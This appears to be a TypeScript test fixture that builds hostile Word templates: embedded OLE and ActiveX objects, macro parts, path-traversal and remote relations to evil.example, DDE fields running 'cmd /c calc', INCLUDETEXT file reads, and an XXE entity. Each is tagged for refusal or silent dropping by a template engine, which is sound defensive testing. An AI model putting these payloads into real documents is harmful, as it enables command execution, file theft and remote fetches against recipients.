import { docx, paragraph, relation, relations, wordPart } from '../buildTemplate';
import { type Canary, type HostileDocument, harmless, refused } from './hostileDocument';

const body = paragraph('text');
const main = 'word/document.xml';
const mainRelations = 'word/_rels/document.xml.rels';
const transitional = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const strict = 'http://purl.oclc.org/ooxml/wordprocessingml/main';

/** Word documents that try to read, fetch, run or embed something. */
export function hostileWordDocuments(canary: Canary): HostileDocument[] {
  return [...embedding(canary), ...fetching(canary), ...fields(canary), ...leftOut(canary)];
}

/** A picture referenced by a relationship. */
const drawingOf = (id: string) =>
  `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="360000" cy="360000"/><wp:docPr id="1" name="x"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:blipFill><a:blip r:embed="${id}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;

function embedding({ file }: Canary): HostileDocument[] {
  const chunk = (element: string) =>
    docx(body + element, { 'word/x.html': `<iframe src="file://${file}"/>` });
  const embedded = (name: string, template: Uint8Array, part = main) =>
    refused(name, template, 'TEMPLATE_EMBEDDED_OBJECT', part);
  return [
    embedded('an OLE object', docx('<w:p><w:r><w:object><o:OLEObject/></w:object></w:r></w:p>')),
    embedded('a control', docx('<w:p><w:r><w:control w:name="x"/></w:r></w:p>')),
    embedded('a chunk of another document', chunk('<w:altChunk r:id="x"/>')),
    embedded('a chunk under another prefix', chunk(`<x:altChunk xmlns:x="${transitional}" r:id="x"/>`)),
    embedded('a chunk in the default namespace', chunk(`<altChunk xmlns="${strict}" r:id="x"/>`)),
    embedded(
      'a chunk in a namespace written with references',
      chunk(`<x:altChunk xmlns:x="http&#58;//purl.oclc.org/ooxml/wordprocessingml/main" r:id="x"/>`),
    ),
    embedded('a sub-document', docx(`${body}<w:subDoc r:id="x"/>`)),
    embedded(
      'a chart in a drawing',
      docx(
        '<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart"/></a:graphic></wp:inline></w:drawing></w:r></w:p>',
      ),
    ),
    embedded(
      'an embedded workbook',
      docx(body, { 'word/embeddings/sheet.xlsx': 'PK' }),
      'word/embeddings/sheet.xlsx',
    ),
    embedded('ActiveX', docx(body, { 'word/activeX/activeX1.bin': 'x' }), 'word/activeX/activeX1.bin'),
    refused(
      'a macro project',
      docx(body, { 'word/vbaProject.bin': 'x' }),
      'TEMPLATE_MACRO',
      'word/vbaProject.bin',
    ),
    refused(
      'macros by another content type',
      docx(body, {
        '[Content_Types].xml':
          '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      }),
      'TEMPLATE_MACRO',
      '[Content_Types].xml',
    ),
    refused(
      'a key map that calls macros',
      docx(`${body}<wne:tcg xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>`),
      'TEMPLATE_MACRO',
      main,
    ),
    refused(
      'a program among its parts',
      docx(body, { 'word/run.exe': 'MZ' }),
      'TEMPLATE_UNEXPECTED_PART',
      'word/run.exe',
    ),
    refused(
      'a drawing that may hold scripts, by the name of a picture',
      docx(body, { 'word/media/x.png': '<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>' }),
      'TEMPLATE_UNEXPECTED_PART',
      'word/media/x.png',
    ),
    refused(
      'PostScript by the name of a picture',
      docx(body, { 'word/media/x.png': '%!PS-Adobe-3.0 EPSF-3.0' }),
      'TEMPLATE_UNEXPECTED_PART',
      'word/media/x.png',
    ),
  ];
}

function fetching({ file, server }: Canary): HostileDocument[] {
  const linked = (name: string, type: string, target: string, mode = '') =>
    refused(
      name,
      docx(body, { [mainRelations]: relations(relation(type, target, mode)) }),
      'TEMPLATE_EXTERNAL',
      mainRelations,
    );
  const inBody = (name: string, xml: string) => refused(name, docx(xml), 'TEMPLATE_EXTERNAL', main);
  return [
    linked('a remote picture', 'image', `${server}/p.png`, 'External'),
    linked('a remote picture said to be inside', 'image', `${server}/p.png`),
    linked('a local file', 'image', `file://${file}`, 'External'),
    linked('a path on another machine', 'image', '\\\\evil.example\\share\\p.png'),
    linked('an absolute path outside of the package', 'image', `/..${file}`),
    linked('a path above the package', 'image', `../../../../../..${file}`),
    linked('a path with escapes', 'image', `..%2f..%2f..${file}`),
    linked('a target made by a tag', 'image', 'media/{d.customer.name}'),
    linked('a link to a file', 'hyperlink', `file://${file}`, 'External'),
    linked('a link that runs a script', 'hyperlink', 'javascript:alert(1)', 'External'),
    linked('a remote picture in references', 'image', '&#104;ttp://evil.example/p.png', '&#69;xternal'),
    refused(
      'remote styles',
      docx(body, { [mainRelations]: relations(relation('styles', `${server}/styles.xml`, 'External')) }),
      'TEMPLATE_EXTERNAL',
      mainRelations,
    ),
    refused(
      'two relations of one name',
      docx(body, {
        [mainRelations]: relations(
          relation('hyperlink', 'https://example.com', 'External'),
          relation('hyperlink', 'https://example.com', 'External'),
        ),
      }),
      'TEMPLATE_BROKEN',
      mainRelations,
    ),
    inBody('a linked picture', '<w:p><w:r><w:drawing><a:blip r:link="x"/></w:drawing></w:r></w:p>'),
    inBody(
      'a linked picture under another prefix',
      '<w:p><w:r><w:drawing><a:blip xmlns:q="http://purl.oclc.org/ooxml/officeDocument/relationships" q:link="x"/></w:drawing></w:r></w:p>',
    ),
    inBody(
      'a remote VML picture behind a bracket in quotes',
      `<w:p><w:r><w:pict><v:imagedata o:title=">" src="${server}/p.png"/></w:pict></w:r></w:p>`,
    ),
    inBody(
      'a remote VML fill',
      `<w:p><w:r><w:pict><v:rect><v:fill o:href="${server}/f.png"/></v:rect></w:pict></w:r></w:p>`,
    ),
  ];
}

function fields({ file, server }: Canary): HostileDocument[] {
  const run = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`;
  const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
  const field = (...pieces: string[]) =>
    docx(`<w:p>${mark('begin')}${pieces.map(run).join('')}${mark('end')}</w:p>`);
  const linked = (name: string, template: Uint8Array, part = main) =>
    refused(name, template, 'TEMPLATE_LINKED', part);
  return [
    linked('a field that reads a file', field(` INCLUDETEXT "${file}" `)),
    linked('a field scattered over runs', field('INCL', `UDEPICTURE "${server}/p.png"`)),
    linked('a field in small letters', field(` includepicture "${server}/p.png" `)),
    linked('a field put together by a tag', field('PAGE {d.customer.name}')),
    linked(
      'a field in a field',
      field(`PAGE </w:instrText></w:r>${mark('begin')}${run('DDE x')}${mark('end')}<w:r><w:instrText>`),
    ),
    linked('a DDE field', docx('<w:p><w:fldSimple w:instr="DDEAUTO cmd /c calc"/></w:p>')),
    linked(
      'a DDE field behind a bracket',
      docx('<w:p><w:fldSimple w:dirty=">" w:instr="DDEAUTO cmd"/></w:p>'),
    ),
    linked(
      'a DDE field under another prefix',
      docx(`<x:p xmlns:x="${strict}"><x:fldSimple x:instr="DDEAUTO cmd"/></x:p>`),
    ),
    linked('a field without a beginning', docx(`<w:p>${run('DATABASE')}</w:p>`)),
    linked('a button that runs a macro', field('MACROBUTTON AutoOpen x')),
    linked('a link of text to a file', field(`HYPERLINK "file://${file}"`)),
    linked(
      'an instruction in deleted text',
      docx(
        `<w:p>${mark('begin')}<w:r><w:delInstrText>LINK Excel.Sheet</w:delInstrText></w:r>${mark('end')}</w:p>`,
      ),
    ),
    linked(
      'a mail merge',
      docx(body, {
        'word/settings.xml': wordPart('w:settings', `<w:mailMerge><w:query w:val="x"/></w:mailMerge>`),
      }),
      'word/settings.xml',
    ),
  ];
}

/** Dropped silently, since reports do not need it. */
function leftOut({ file, server }: Canary): HostileDocument[] {
  return [
    harmless(
      'a template attached to it',
      docx(paragraph('canary'), {
        'word/settings.xml': wordPart('w:settings', '<w:attachedTemplate r:id="rattachedTemplate"/>'),
        'word/_rels/settings.xml.rels': relations(
          relation('attachedTemplate', `${server}/evil.dotm`, 'External'),
        ),
      }),
    ),
    harmless(
      'XML data with an entity in it',
      docx(paragraph('canary'), {
        'customXml/item1.xml': `<!DOCTYPE x [<!ENTITY a SYSTEM "file://${file}">]><x>&a;</x>`,
      }),
    ),
    harmless(
      'a link that only a reader follows',
      docx(paragraph('canary'), {
        [mainRelations]: relations(relation('hyperlink', `${server}/clicked`, 'External')),
      }),
    ),
    harmless(
      'a drawing that fetches, beside a picture',
      docx(paragraph('canary') + drawingOf('rimage'), {
        [mainRelations]: relations(relation('image', 'media/x.svg')),
        'word/media/x.svg': `<svg xmlns="http://www.w3.org/2000/svg"><image href="${server}/x.png"/></svg>`,
      }),
    ),
    harmless(
      'an embedded font that is none',
      docx(paragraph('canary'), { 'word/fonts/font1.odttf': '\u0000\u0001\u0000\u0000' }),
    ),
    harmless(
      'properties and a thumbnail from elsewhere',
      docx(paragraph('canary'), {
        'docProps/app.xml': `<Properties><Template>${server}/x.dotm</Template></Properties>`,
        'docProps/thumbnail.emf': 'x',
      }),
    ),
  ];
}
